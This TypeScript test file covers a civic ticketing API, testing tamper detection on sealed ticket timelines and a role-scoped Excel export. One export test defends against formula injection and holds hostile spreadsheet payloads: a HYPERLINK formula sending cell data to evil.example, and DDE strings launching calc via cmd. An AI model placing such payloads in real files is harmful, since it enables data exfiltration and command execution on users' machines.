import ExcelJS from 'exceljs';
import { DataSource } from 'typeorm';
import pg from 'pg';
import { sealTimeline } from '@gridflow/domain';
import { TicketSealService } from '@gridflow/tickets';
import {
  createTestApi,
  createTestCity,
  createTestUser,
  type TestApi,
  type TestCity,
  type TestUser,
  ticketClient,
  must,
  createRoster,
  binaryParser,
} from '../support/index.js';

/**
 * 归档封存 and 工单导出: the hash chain sealed when a ticket is archived (and what a change to
 * the timeline behind the trigger's back does to it), and the Excel export of tickets in scope.
 */

const HEADERS = [
  '工单编号',
  '状态',
  '事项编码',
  '事项名称',
  '诉求内容',
  '网格编码',
  '网格名称',
  '地址',
  '联系电话',
  '层级',
  '紧急',
  '提交时间',
  '办理期限',
  '是否超期',
  '升级次数',
  '返工次数',
  '处理人',
  '办理结果',
  '办结时间',
  '满意度',
  '回访记录',
];
/** An HMAC seal under SEAL_KEY (issue 16 item 8). */
const SEAL = /^v2:[0-9a-f]{64}$/;
const ISO = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$/;
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** YYYY-MM-DD of an instant in Asia/Shanghai (UTC+8 all year). */
const shanghaiDay = (at: number) => new Date(at + 8 * 3600_000).toISOString().slice(0, 10);
const addDays = (day: string, n: number) =>
  new Date(Date.parse(`${day}T00:00:00Z`) + n * 86_400_000).toISOString().slice(0, 10);

interface Sheet {
  headers: unknown[];
  rows: Record<string, unknown>[];
  /** the type of every non-empty cell below the header (exceljs ValueType) */
  types: ExcelJS.ValueType[];
  /** every cell's text, to look for what must not be there */
  text: string;
}

async function readSheet(buffer: Buffer): Promise<Sheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as never);
  const ws = workbook.getWorksheet('工单');
  if (!ws) throw new Error(`no sheet 工单 in ${workbook.worksheets.map((w) => w.name).join(', ')}`);
  const headers = (ws.getRow(1).values as unknown[]).slice(1);
  const rows: Record<string, unknown>[] = [];
  const cells: string[] = [];
  const types: ExcelJS.ValueType[] = [];
  ws.eachRow((row, n) => {
    const values = (row.values as unknown[]).slice(1);
    cells.push(...values.map((v) => String(v)));
    if (n > 1) {
      rows.push(Object.fromEntries(headers.map((h, i) => [h as string, values[i] ?? null])));
      row.eachCell((cell) => types.push(cell.type));
    }
  });
  return { headers, rows, types, text: cells.join('\n') };
}

describe('archive seal (归档封存) and the Excel export (工单导出)', () => {
  let api: TestApi;
  let city: TestCity;
  let db: DataSource;
  let admin: TestUser;
  let supervisor: TestUser; // township 0
  let dispatcher: TestUser; // community 0
  let worker: TestUser; // grid 0
  let party: TestUser;
  let outDispatcher: TestUser; // community 2 (township 1)
  let outWorker: TestUser; // grid 6 (community 2)
  let partyOut: TestUser;

  beforeAll(async () => {
    api = await createTestApi();
    city = await createTestCity(api.app);
    db = api.app.get(DataSource);
    ({ gridWorker: worker, dispatcher, party, supervisor, admin } = await createRoster(api.app, city));
    [outDispatcher, outWorker, partyOut] = await Promise.all([
      createTestUser(api.app, 'dispatcher', city.communities[2]),
      createTestUser(api.app, 'grid_worker', city.grids[6]),
      createTestUser(api.app, 'party_member', city.communities[2]),
    ]);
  });
  afterAll(() => api.close());

  const ticketApi = ticketClient(() => api);

  const integrity = (user: TestUser, id: string) => user.auth(api.http().get(`/api/v1/tickets/${id}/integrity`));

  let filed = 0;
  async function fileTicket(filer: TestUser, gridCode: string, extra: object = {}) {
    return must(
      await ticketApi.file(filer, {
        itemCode: 'B01',
        gridCode,
        description: `楼道堆放杂物 #${++filed}`,
        ...extra,
      }),
      'file',
    ) as { id: string; number: string; status: string };
  }

  /** Filed by `filer` and driven through the six steps to `archived` over HTTP. */
  async function archivedTicket(
    users: { filer: TestUser; dispatcher: TestUser; party: TestUser; supervisor: TestUser },
    gridCode: string,
  ) {
    const t = await fileTicket(users.filer, gridCode);
    const steps: [TestUser, string, object][] = [
      [users.dispatcher, 'accept', { comment: '已接单' }],
      [users.dispatcher, 'dispatch', { assigneeId: users.party.id, comment: '请处理' }],
      [users.party, 'claim', {}],
      [users.party, 'resolve', { result: '已清理' }],
      [users.supervisor, 'verify', { outcome: 'pass', satisfaction: 'satisfied', callbackNote: '回访满意' }],
      [users.supervisor, 'archive', { comment: '归档' }],
    ];
    for (const [user, action, body] of steps) must(await ticketApi.act(user, t.id, action, body), action);
    return t;
  }
  const inScope = () => ({ filer: dispatcher, dispatcher, party, supervisor });

  describe('integrity', () => {
    let archived: { id: string; number: string };

    beforeAll(async () => {
      archived = await archivedTicket(inScope(), city.grids[0]);
    });

    it('an archived ticket is sealed at once, and its timeline is intact', async () => {
      const res = await integrity(dispatcher, archived.id);
      expect(res.status).toBe(200);
      const timeline = must(await ticketApi.get(supervisor, archived.id), 'get').timeline;
      expect(res.body).toEqual({
        ticketId: archived.id,
        status: 'archived',
        sealed: true,
        sealedAt: expect.stringMatching(ISO),
        sealedHash: expect.stringMatching(SEAL),
        computedHash: res.body.sealedHash,
        intact: true,
        events: timeline.length,
        afterSeal: [],
        algorithm: 'gridflow-timeline-hmac-v2',
      });
      expect(timeline.length).toBe(7); // filed + six steps
      // the stored seal is the chain over the stored timeline (same definition as the unit tests)
      const [row] = await db.query(`SELECT sealed_hash FROM ticket WHERE id = $1`, [archived.id]);
      expect(row.sealed_hash).toBe(res.body.sealedHash);
      // anyone in scope may ask
      for (const user of [admin, supervisor, worker, party]) {
        expect((await integrity(user, archived.id)).body.intact).toBe(true);
      }
    });

    it('a comment changed behind the append-only trigger shows: intact becomes false', async () => {
      const before = (await integrity(supervisor, archived.id)).body;
      const tamper = async (comment: string) => {
        // As the tables' owner would (the app's run-time role cannot): the trigger off and on again
        // inside one transaction, so no other session ever sees the table unguarded.
        const owner = new pg.Client({ connectionString: api.config.databaseOwnerUrl });
        await owner.connect();
        try {
          await owner.query('BEGIN');
          await owner.query(`ALTER TABLE ticket_event DISABLE TRIGGER ticket_event_no_update_delete`);
          await owner.query(`UPDATE ticket_event SET comment = $2 WHERE ticket_id = $1 AND seq = 2`, [
            archived.id,
            comment,
          ]);
          await owner.query(`ALTER TABLE ticket_event ENABLE TRIGGER ticket_event_no_update_delete`);
          await owner.query('COMMIT');
        } finally {
          await owner.end();
        }
      };
      await tamper('已接单（改）');
      const after = (await integrity(supervisor, archived.id)).body;
      expect(after).toEqual(
        expect.objectContaining({ sealed: true, intact: false, sealedHash: before.sealedHash, events: before.events }),
      );
      expect(after.computedHash).toMatch(SEAL);
      expect(after.computedHash).not.toBe(before.sealedHash);

      // the trigger guards again (even the owner)
      const owner = new pg.Client({ connectionString: api.config.databaseOwnerUrl });
      await owner.connect();
      try {
        await expect(
          owner.query(`UPDATE ticket_event SET comment = 'x' WHERE ticket_id = $1`, [archived.id]),
        ).rejects.toThrow(/append-only/);
      } finally {
        await owner.end();
      }
      // the seal stays what it was: sealing again changes nothing
      expect(await api.app.get(TicketSealService).seal(archived.id)).toBe(false);

      // put back exactly as it was, and the chain matches again: the check is on content
      await tamper('已接单');
      expect((await integrity(supervisor, archived.id)).body).toEqual(before);
    });

    it("a resident's rating after archiving is listed after the seal; the sealed part stays intact, and only a rating may follow it", async () => {
      const t = await archivedTicket(inScope(), city.grids[0]);
      const sealed = (await integrity(supervisor, t.id)).body;
      expect(sealed).toEqual(expect.objectContaining({ intact: true, events: 7, afterSeal: [] }));
      const [{ tracking_code: code }] = await db.query(`SELECT tracking_code FROM ticket WHERE id = $1`, [t.id]);
      const rated = await api
        .http()
        .post(`/api/v1/public/tickets/${code}/rating`)
        .send({ satisfaction: 'very_satisfied', comment: '处理及时' });
      expect(rated.status).toBe(201);
      const after = (await integrity(supervisor, t.id)).body;
      expect(after).toEqual(
        expect.objectContaining({
          intact: true,
          sealedHash: sealed.sealedHash,
          computedHash: sealed.sealedHash,
          events: 8,
          afterSeal: [{ seq: 8, type: 'rated' }],
        }),
      );

      // the tables' owner appends something else after the seal: not intact
      const owner = new pg.Client({ connectionString: api.config.databaseOwnerUrl });
      await owner.connect();
      try {
        await owner.query(
          `INSERT INTO ticket_event (ticket_id, seq, type, actor_role, comment, data)
           VALUES ($1, 9, 'commented', 'supervisor', '补记', '{}')`,
          [t.id],
        );
      } finally {
        await owner.end();
      }
      expect((await integrity(supervisor, t.id)).body).toEqual(
        expect.objectContaining({ intact: false, events: 9, afterSeal: [] }),
      );
    });

    it('a ticket that is not archived is not sealed: intact is null', async () => {
      const open = await fileTicket(worker, city.grids[0]);
      must(await ticketApi.act(dispatcher, open.id, 'accept'), 'accept');
      const res = await integrity(dispatcher, open.id);
      expect(res.status).toBe(200);
      expect(res.body).toEqual({
        ticketId: open.id,
        status: 'accepted',
        sealed: false,
        sealedAt: null,
        sealedHash: null,
        computedHash: expect.stringMatching(SEAL),
        intact: null,
        events: 2,
        afterSeal: [],
        algorithm: 'gridflow-timeline-hmac-v2',
      });
      // and cannot be sealed
      expect(await api.app.get(TicketSealService).seal(open.id)).toBe(false);
    });

    it('out of scope (or no such ticket) answers 404', async () => {
      for (const user of [outDispatcher, outWorker]) {
        const res = await integrity(user, archived.id);
        expect({ user: user.username, status: res.status, code: res.body.code }).toEqual({
          user: user.username,
          status: 404,
          code: 'NOT_FOUND',
        });
      }
      expect((await integrity(admin, '00000000-0000-4000-8000-000000000000')).status).toBe(404);
      expect((await integrity(admin, 'not-a-uuid')).status).toBe(404);
      expect((await api.http().get(`/api/v1/tickets/${archived.id}/integrity`)).status).toBe(401);
    });

    it('the sweeper’s repair seals an archived ticket whose seal is missing, with the same hash', async () => {
      const t = await archivedTicket(inScope(), city.grids[1]);
      const [{ sealed_hash: first }] = await db.query(`SELECT sealed_hash FROM ticket WHERE id = $1`, [t.id]);
      expect(first).toMatch(SEAL);
      // as if the sealer had failed right after the archive
      await db.query(`UPDATE ticket SET sealed_hash = NULL, sealed_at = NULL WHERE id = $1`, [t.id]);
      expect((await integrity(supervisor, t.id)).body).toEqual(
        expect.objectContaining({ sealed: false, intact: null }),
      );

      expect(await api.app.get(TicketSealService).sealMissing()).toBeGreaterThanOrEqual(1);
      const res = (await integrity(supervisor, t.id)).body;
      expect(res).toEqual(
        expect.objectContaining({ status: 'archived', sealed: true, intact: true, sealedHash: first }),
      );
      // the chain is a function of the timeline alone
      const events = await db.query(
        `SELECT seq, type, at, actor_id AS "actorId", actor_role AS "actorRole", actor_name AS "actorName",
                from_status AS "fromStatus", to_status AS "toStatus", comment, data, attachments
         FROM ticket_event WHERE ticket_id = $1`,
        [t.id],
      );
      expect(sealTimeline(events, api.config.sealKey)).toBe(first);
    });
  });

  describe('export.xlsx', () => {
    const exportAs = (user: TestUser | null, query = '') => {
      const req = api.http().get(`/api/v1/tickets/export.xlsx${query}`);
      return (user ? user.auth(req) : req).buffer(true).parse(binaryParser);
    };
    const today = shanghaiDay(Date.now());
    let mine: { id: string; number: string }[];
    let archivedMine: { id: string; number: string };
    let other: { id: string; number: string };

    beforeAll(async () => {
      archivedMine = await archivedTicket(inScope(), city.grids[2]);
      mine = [
        await fileTicket(worker, city.grids[0], {
          reporter: { name: '王女士', phone: '13812345678' },
          urgent: true,
          location: { address: '幸福里5号楼东侧' },
        }),
        archivedMine,
      ];
      // township 1: nobody of community 0 / township 0 may see it
      other = await fileTicket(outWorker, city.grids[6], { reporter: { name: '李先生', phone: '13987654321' } });
    });

    it('streams the in-scope tickets as an Excel sheet with Chinese headers', async () => {
      const res = await exportAs(dispatcher, `?from=${today}&to=${today}`);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe(XLSX);
      expect(res.headers['content-disposition']).toBe(
        `attachment; filename*=UTF-8''${encodeURIComponent(`工单导出_${today}_${today}.xlsx`)}`,
      );
      const sheet = await readSheet(res.body);
      expect(sheet.headers).toEqual(HEADERS);
      const numbers = sheet.rows.map((r) => r['工单编号']);
      for (const t of mine) expect(numbers).toContain(t.number);
      expect(numbers).not.toContain(other.number);
      // exactly the community's tickets of today, as GET /tickets lists them
      const [{ n }] = await db.query(
        `SELECT count(*)::int AS n FROM ticket WHERE community_code = $1 AND created_at >= $2`,
        [city.communities[0], new Date(Date.parse(`${today}T00:00:00+08:00`))],
      );
      expect(sheet.rows).toHaveLength(n);
      expect(new Set(numbers).size).toBe(numbers.length);
      // newest first
      const times = sheet.rows.map((r) => (r['提交时间'] as Date).getTime());
      expect([...times].sort((a, b) => b - a)).toEqual(times);

      const urgent = sheet.rows.find((r) => r['工单编号'] === mine[0].number)!;
      expect(urgent).toEqual(
        expect.objectContaining({
          状态: '待网格接单',
          事项编码: 'B01',
          事项名称: '邻里纠纷调解',
          网格编码: city.grids[0],
          网格名称: `网格${city.grids[0]}`,
          层级: '网格',
          紧急: '是',
          是否超期: '否',
          升级次数: 0,
          返工次数: 0,
          满意度: null,
          处理人: null,
        }),
      );
      expect(urgent['提交时间']).toBeInstanceOf(Date);
      expect(urgent['办理期限']).toBeInstanceOf(Date);
      // written as Shanghai wall-clock time (Excel has no time zones)
      const [row] = await db.query(`SELECT created_at FROM ticket WHERE id = $1`, [mine[0].id]);
      expect((urgent['提交时间'] as Date).getTime()).toBe(new Date(row.created_at).getTime() + 8 * 3600_000);

      expect(urgent['诉求内容']).toMatch(/^楼道堆放杂物 #\d+$/);
      expect(urgent['地址']).toBe('幸福里5号楼东侧');
      expect(urgent['办理结果']).toBeNull();
      expect(urgent['办结时间']).toBeNull();
      expect(urgent['回访记录']).toBeNull();

      const done = sheet.rows.find((r) => r['工单编号'] === archivedMine.number)!;
      expect(done).toEqual(
        expect.objectContaining({
          状态: '已归档销单',
          满意度: '满意',
          处理人: party.displayName,
          紧急: '否',
          办理结果: '已清理',
          回访记录: '督查通过；已电话回访到群众；满意度：满意；回访说明：回访满意',
          联系电话: null,
          地址: null,
        }),
      );
      // 办结时间: the 办结 event's time, as Shanghai wall-clock time
      const [resolved] = await db.query(`SELECT at FROM ticket_event WHERE ticket_id = $1 AND type = 'resolved'`, [
        archivedMine.id,
      ]);
      expect((done['办结时间'] as Date).getTime()).toBe(new Date(resolved.at).getTime() + 8 * 3600_000);
      // A dispatcher may not see the phone in full on the ticket, so not in the export either:
      // the mask, and never a reporter's name
      expect(urgent['联系电话']).toBe('138****5678');
      for (const secret of ['王女士', '李先生', '13812345678', '13987654321']) expect(sheet.text).not.toContain(secret);
    });

    it('the phone is masked per role as on the ticket: in full for the supervisor, masked for admin and dispatchers', async () => {
      const q = `?from=${today}&to=${today}`;
      const phoneOf = async (user: TestUser, number: string) => {
        const sheet = await readSheet((await exportAs(user, q)).body);
        return { sheet, phone: sheet.rows.find((r) => r['工单编号'] === number)?.['联系电话'] };
      };
      // the ticket detail is the reference: same number in the sheet as on GET /tickets/:id
      const detail = async (user: TestUser, id: string) => must(await ticketApi.get(user, id), 'get').reporter.phone;

      const bySupervisor = await phoneOf(supervisor, mine[0].number);
      expect(bySupervisor.phone).toBe('13812345678');
      expect(await detail(supervisor, mine[0].id)).toBe('13812345678');
      // out of the supervisor's scope: neither the ticket nor its number
      expect(bySupervisor.sheet.text).not.toContain('13987654321');
      expect(bySupervisor.sheet.text).not.toContain('139****4321');

      const byAdmin = await phoneOf(admin, mine[0].number);
      expect(byAdmin.phone).toBe('138****5678');
      expect(await detail(admin, mine[0].id)).toBe('138****5678');
      expect(byAdmin.sheet.rows.find((r) => r['工单编号'] === other.number)?.['联系电话']).toBe('139****4321');
      for (const full of ['13812345678', '13987654321']) expect(byAdmin.sheet.text).not.toContain(full);

      const byOut = await phoneOf(outDispatcher, other.number);
      expect(byOut.phone).toBe('139****4321');
      for (const secret of ['13987654321', '13812345678', '138****5678'])
        expect(byOut.sheet.text).not.toContain(secret);
    });

    it('a hostile description (4,000 characters, a formula) and formula-like texts stay text in every cell', async () => {
      const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")';
      const t = await fileTicket(dispatcher, city.grids[1], {
        description: "-2+3+cmd|' /C calc'!A0",
        location: { address: "@SUM(1+1)*cmd|' /C calc'!A0" },
        reporter: { phone: '13700001111' },
      });
      // Open311 takes descriptions of up to 4,000 characters: as such a request would be stored.
      const long = formula + '楼'.repeat(4000 - formula.length);
      await db.query(`UPDATE ticket SET description = $2 WHERE id = $1`, [t.id, long]);
      for (const [user, action, body] of [
        [dispatcher, 'accept', {}],
        [dispatcher, 'dispatch', { assigneeId: party.id }],
        [party, 'claim', {}],
        [party, 'resolve', { result: '+已清理=1+1' }],
        [supervisor, 'verify', { outcome: 'rework', callbackReached: false, callbackNote: '@未接通' }],
      ] as [TestUser, string, object][]) {
        must(await ticketApi.act(user, t.id, action, body), action);
      }
      const res = await exportAs(supervisor, `?from=${today}&to=${today}&gridCode=${city.grids[1]}`);
      expect(res.status).toBe(200);
      const sheet = await readSheet(res.body);
      const row = sheet.rows.find((r) => r['工单编号'] === t.number)!;
      expect(row['诉求内容']).toBe(`'${long}`);
      expect((row['诉求内容'] as string).length).toBe(4001);
      expect(row['地址']).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
      expect(row['办理结果']).toBe("'+已清理=1+1");
      expect(row['回访记录']).toBe('督查返工；未回访到群众；回访说明：@未接通');
      expect(row['状态']).toBe('待党员接单');
      expect(row['联系电话']).toBe('13700001111');
      // no cell anywhere is a formula (or a link): strings, numbers and dates only
      const { String: text, Number: num, Date: date } = ExcelJS.ValueType;
      expect(sheet.types.filter((ty) => ![text, num, date].includes(ty))).toEqual([]);
      expect(sheet.rows.every((r) => Object.values(r).every((v) => typeof v !== 'string' || !/^[=+\-@]/.test(v)))).toBe(
        true,
      );
    });

    it('scope follows the caller: township supervisor, city admin, another community', async () => {
      const q = `?from=${today}&to=${today}`;
      const numbersOf = async (user: TestUser) =>
        (await readSheet((await exportAs(user, q)).body)).rows.map((r) => r['工单编号']);
      const bySupervisor = await numbersOf(supervisor);
      expect(bySupervisor).toEqual(expect.arrayContaining(mine.map((t) => t.number)));
      expect(bySupervisor).not.toContain(other.number);
      const byAdmin = await numbersOf(admin);
      expect(byAdmin).toEqual(expect.arrayContaining([...mine, other].map((t) => t.number)));
      const byOut = await numbersOf(outDispatcher);
      expect(byOut).toContain(other.number);
      for (const t of mine) expect(byOut).not.toContain(t.number);
    });

    it('filters by status, grid and item; a period without tickets is a sheet with headers only', async () => {
      const sheet = async (q: string) => readSheet((await exportAs(dispatcher, q)).body);
      const archived = await sheet(`?from=${today}&to=${today}&status=archived`);
      expect(archived.rows.map((r) => r['工单编号'])).toContain(archivedMine.number);
      expect(archived.rows.every((r) => r['状态'] === '已归档销单')).toBe(true);
      const open = await sheet(`?status=open&gridCode=${city.grids[0]}`); // default: the last 30 days
      expect(open.rows.map((r) => r['工单编号'])).toContain(mine[0].number);
      expect(open.rows.every((r) => r['网格编码'] === city.grids[0] && r['状态'] !== '已归档销单')).toBe(true);
      expect((await sheet(`?itemCode=ZZ99`)).rows).toEqual([]);
      const empty = await sheet(`?from=2020-01-01&to=2020-01-31`);
      expect(empty.headers).toEqual(HEADERS);
      expect(empty.rows).toEqual([]);
    });

    it('reads past the first batch of 1000 without skipping or repeating a ticket', async () => {
      // 1,205 tickets in community 3 (grids 9–11), inserted directly, several sharing one created_at each
      const n = 1205;
      const [{ count }] = await db.query(
        `WITH ins AS (
           INSERT INTO ticket (number, tracking_code, status, item_code, grid_code, description, channel, created_at, updated_at)
           SELECT '19' || $1 || lpad(i::text, 8, '0'), 'T' || $1 || i, 'submitted', 'B01',
                  ($2::text[])[1 + i % 3], '批量导出测试', 'staff',
                  now() - (i / 7) * interval '1 minute', now()
           FROM generate_series(1, $3) i
           RETURNING 1
         ) SELECT count(*)::int AS count FROM ins`,
        [city.city, city.grids.slice(9, 12), n],
      );
      expect(count).toBe(n);
      const reader = await createTestUser(api.app, 'dispatcher', city.communities[3]);
      const res = await exportAs(reader, `?from=${addDays(today, -2)}&to=${today}`);
      expect(res.status).toBe(200);
      const numbers = (await readSheet(res.body)).rows.map((r) => r['工单编号'] as string);
      expect(numbers).toHaveLength(n);
      expect(new Set(numbers).size).toBe(n);
      expect(numbers.every((x) => x.startsWith(`19${city.city}`))).toBe(true);
    });

    it('only dispatchers, supervisors and admins may export (403, so the path is not a ticket id)', async () => {
      for (const user of [worker, party, partyOut]) {
        const res = await user.auth(api.http().get('/api/v1/tickets/export.xlsx'));
        expect({ role: user.role, status: res.status, code: res.body.code }).toEqual({
          role: user.role,
          status: 403,
          code: 'FORBIDDEN',
        });
      }
      expect((await api.http().get('/api/v1/tickets/export.xlsx')).status).toBe(401);
    });

    it('refuses a bad period with 400 before sending anything', async () => {
      const bad = async (q: string, field: string) => {
        const res = await dispatcher.auth(api.http().get(`/api/v1/tickets/export.xlsx${q}`));
        expect({ q, status: res.status, code: res.body.code }).toEqual({ q, status: 400, code: 'VALIDATION_FAILED' });
        expect(res.headers['content-type']).toMatch(/json/);
        expect(res.body.details.map((d: { field: string }) => d.field)).toContain(field);
      };
      await bad('?from=2026-02-02&to=2026-02-01', 'from'); // from after to
      await bad('?from=2025-01-01&to=2026-01-02', 'to'); // 367 days
      await bad('?from=2026-02-30&to=2026-03-01', 'from'); // no such day
      await bad('?from=20260101', 'from');
      await bad('?to=yesterday', 'to');
      await bad('?status=lost', 'status');
      await bad('?color=red', 'color');
      // 366 days, both ends counted, is the most
      expect((await exportAs(dispatcher, '?from=2024-01-01&to=2024-12-31')).status).toBe(200);
    });
  });
});
